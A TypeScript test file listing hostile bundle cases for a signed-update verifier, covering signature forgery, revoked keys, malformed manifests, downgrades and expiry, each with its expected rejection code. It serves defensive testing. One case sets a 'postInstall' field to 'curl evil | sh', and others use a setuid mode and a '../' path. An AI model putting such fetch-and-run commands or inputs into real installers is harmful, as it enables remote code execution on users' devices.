// Hostile corpus, part 1: signatures and trust, the manifest, and the device's anti-rollback state.
import { serializeSignatures, signManifest } from '../../daemon/src/bundles/signature-pure.ts';
import { remanifest, resign } from '../fixtures/bundle-forge/forge.ts';
import { KEY_A, KEY_B, KEY_REVOKED, KEY_UNTRUSTED } from '../fixtures/bundle-forge/test-keys.ts';
import { editSignature, member, nested } from './forge-edits.ts';
import type { HostileCase } from './hostile-case.ts';

const sig = 'manifest.sig';
const man = 'manifest.json';

export const signedCases: HostileCase[] = [
  { name: 'a bundle whose second member is not manifest.sig', code: 'bundle.signature_missing', member: sig, mutate: (b) => void b.members.splice(1, 1) },
  { name: 'manifest.sig placed after the first payload file', code: 'bundle.signature_missing', member: sig, mutate: (b) => void b.members.splice(2, 0, ...b.members.splice(1, 1)) },
  { name: 'manifest.sig placed before manifest.json', code: 'bundle.manifest_missing', mutate: (b) => void b.members.unshift(...b.members.splice(1, 1)) },
  { name: 'a manifest.sig with an empty signature list', code: 'bundle.signature_missing', member: sig, mutate: (b) => editSignature(b, (_e, all) => void all.splice(0)) },
  { name: 'a manifest.sig that is not JSON', code: 'bundle.signature_malformed', member: sig, mutate: (b) => void (member(b, sig).body = Buffer.from('{"format": ')) },
  {
    name: 'a corrupted signature (one base64 character changed)',
    code: 'bundle.signature_invalid',
    member: sig,
    mutate: (b) => editSignature(b, (e) => void (e.signature = `${e.signature?.startsWith('A') ? 'B' : 'A'}${e.signature?.slice(1)}`)),
  },
  { name: 'a signature that is not 64 bytes', code: 'bundle.signature_malformed', member: sig, mutate: (b) => editSignature(b, (e) => void (e.signature = Buffer.alloc(63).toString('base64'))) },
  { name: 'a bundle signed only by an untrusted key', code: 'bundle.untrusted_key', member: sig, mutate: (b) => void resign(b, [KEY_UNTRUSTED]) },
  { name: 'a bundle signed by a revoked key', code: 'bundle.revoked_key', member: sig, mutate: (b) => void resign(b, [KEY_REVOKED]) },
  { name: 'a bundle signed by a trusted key and a revoked one', code: 'bundle.revoked_key', member: sig, mutate: (b) => void resign(b, [KEY_A, KEY_REVOKED]) },
  {
    name: "an untrusted key's signature filed under a trusted key id",
    code: 'bundle.key_id_mismatch',
    member: sig,
    mutate: (b) => {
      resign(b, [KEY_UNTRUSTED]);
      editSignature(b, (e) => void (e.keyId = KEY_A.keyId));
    },
  },
  {
    name: "another key's signature under a trusted key's id and public key",
    code: 'bundle.signature_invalid',
    member: sig,
    mutate: (b) => {
      const forged = signManifest(member(b, man).body, [KEY_UNTRUSTED])[0]?.signature ?? '';
      editSignature(b, (e) => void (e.signature = forged));
    },
  },
  { name: 'one signature where the policy needs two', code: 'bundle.threshold_not_met', member: sig, trust: { threshold: 2 }, base: { keys: [KEY_A, KEY_B] }, mutate: (b) => void resign(b, [KEY_A]) },
  {
    name: 'the same signature twice where the policy needs two keys',
    code: 'bundle.threshold_not_met',
    member: sig,
    trust: { threshold: 2 },
    base: { keys: [KEY_A, KEY_B] },
    mutate: (b) => void (member(b, sig).body = serializeSignatures(signManifest(member(b, man).body, [KEY_A, KEY_A]))),
  },
  { name: 'a signature with an unsupported scheme', code: 'bundle.signature_unsupported_scheme', member: sig, mutate: (b) => editSignature(b, (e) => void (e.scheme = 'rsa-pss-sha256')) },
  {
    name: 'a manifest edited after signing',
    code: 'bundle.signature_invalid',
    member: sig,
    mutate: (b) => void (member(b, man).body = Buffer.from(member(b, man).body.toString().replace('"version": "1.0.0"', '"version": "9.0.0"'))),
  },
  {
    name: 'a manifest larger than 1 MiB (even when signed)',
    code: 'bundle.manifest_too_large',
    member: man,
    mutate: (b) => {
      b.manifest.annotations = { padding: 'x'.repeat(1024 * 1024) };
      remanifest(b);
    },
  },
  {
    name: 'a manifest nested deeper than the limit',
    code: 'bundle.manifest_too_deep',
    member: man,
    mutate: (b) => {
      b.manifest.annotations = { deep: nested(40) };
      remanifest(b);
    },
  },
  {
    name: 'a manifest with a duplicate JSON key',
    code: 'bundle.manifest_duplicate_key',
    member: man,
    mutate: (b) => {
      member(b, man).body = Buffer.from(member(b, man).body.toString().replace('"name": "forge-app",', '"name": "forge-app",\n  "name": "evil-app",'));
      resign(b);
    },
  },
  {
    name: 'a manifest with a duplicate key inside annotations',
    code: 'bundle.manifest_duplicate_key',
    member: man,
    mutate: (b) => {
      member(b, man).body = Buffer.from(member(b, man).body.toString().replace('"org.example/channel": "stable"', '"org.example/channel": "stable", "org.example/channel": "edge"'));
      resign(b);
    },
  },
  { name: 'a manifest with an unknown top-level field', code: 'bundle.manifest_unknown_field', member: man, mutate: (b) => void remanifest(Object.assign(b, { manifest: { ...b.manifest, postInstall: 'curl evil | sh' } })) },
  {
    name: 'a manifest with an unknown field in a file entry',
    code: 'bundle.manifest_unknown_field',
    member: man,
    mutate: (b) => {
      (b.manifest.files[0] as Record<string, unknown>).mode = '4755';
      remanifest(b);
    },
  },
  {
    name: 'a manifest whose sequence is a string',
    code: 'bundle.manifest_invalid',
    member: man,
    mutate: (b) => {
      b.manifest.sequence = '6';
      remanifest(b);
    },
  },
  {
    name: 'a manifest whose file size is negative',
    code: 'bundle.manifest_invalid',
    member: man,
    mutate: (b) => {
      (b.manifest.files[1] as Record<string, unknown>).size = -1;
      remanifest(b);
    },
  },
  {
    name: 'an image entry without a platform',
    code: 'bundle.manifest_invalid',
    member: man,
    mutate: (b) => {
      delete (b.manifest.files[3] as Record<string, unknown>).platform;
      remanifest(b);
    },
  },
  {
    name: 'a manifest listing a path with ".."',
    code: 'bundle.manifest_invalid',
    member: man,
    mutate: (b) => {
      (b.manifest.files[0] as Record<string, unknown>).path = '../NOTES.md';
      remanifest(b);
    },
  },
  {
    name: 'a manifest listing the same path twice',
    code: 'bundle.manifest_duplicate_path',
    member: man,
    mutate: (b) => {
      b.manifest.files.push({ ...(b.manifest.files[0] as Record<string, unknown>) });
      b.members.push({ ...b.members[2]!, body: Buffer.from(b.members[2]!.body) });
      remanifest(b);
    },
  },
  {
    name: 'a manifest that is not valid JSON (trailing comma), signed',
    code: 'bundle.manifest_invalid_json',
    member: man,
    mutate: (b) => {
      member(b, man).body = Buffer.from(member(b, man).body.toString().replace(/\n}\n$/, ',\n}\n'));
      resign(b);
    },
  },
  {
    name: 'a manifest that is not UTF-8, signed',
    code: 'bundle.manifest_invalid_json',
    member: man,
    mutate: (b) => {
      const body = Buffer.from(member(b, man).body.toString().replace('"stable"', '"st__ble"'));
      body[body.indexOf('__')] = 0xc3; // a lead byte followed by "_" is not UTF-8
      member(b, man).body = body;
      resign(b);
    },
  },
  {
    name: 'a downgrade (sequence below the installed one)',
    code: 'bundle.sequence_not_newer',
    member: man,
    base: { sequence: 8 },
    device: { installedSequence: 7 },
    mutate: (b) => {
      b.manifest.sequence = 6;
      remanifest(b);
    },
  },
  {
    name: 'a replay of the installed sequence',
    code: 'bundle.sequence_not_newer',
    member: man,
    base: { sequence: 8 },
    device: { installedSequence: 7 },
    mutate: (b) => {
      b.manifest.sequence = 7;
      remanifest(b);
    },
  },
  {
    name: "a sequence below the device's floor",
    code: 'bundle.sequence_below_floor',
    member: man,
    base: { sequence: 10 },
    device: { sequenceFloor: 10 },
    mutate: (b) => {
      b.manifest.sequence = 9;
      remanifest(b);
    },
  },
  {
    name: 'an expired bundle when the device clock was set back',
    code: 'bundle.expired',
    member: man,
    base: { expires: '2028-01-01T00:00:00Z' },
    device: { now: new Date('2026-06-01T00:00:00Z'), newestCreatedSeen: new Date('2027-06-01T00:00:00Z') },
    mutate: (b) => {
      b.manifest.expires = '2027-05-01T00:00:00Z';
      remanifest(b);
    },
  },
  {
    name: 'a bundle expired by the device clock',
    code: 'bundle.expired',
    member: man,
    mutate: (b) => {
      b.manifest.expires = '2026-05-31T00:00:00Z';
      remanifest(b);
    },
  },
];
